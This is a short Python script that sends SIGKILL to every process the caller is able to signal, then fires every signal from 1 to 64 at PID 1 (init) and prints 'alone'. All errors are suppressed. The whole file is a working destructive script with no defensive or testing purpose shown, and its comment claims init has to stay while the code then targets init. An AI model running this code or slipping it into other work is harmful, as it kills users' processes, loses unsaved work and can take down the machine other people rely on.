# kill(-1, SIGKILL) reaches every process it may signal but itself; init has to stay.
import os

try:
    os.kill(-1, 9)
except OSError:
    pass
for number in range(1, 65):
    try:
        os.kill(1, number)
    except OSError:
        pass
print("alone")
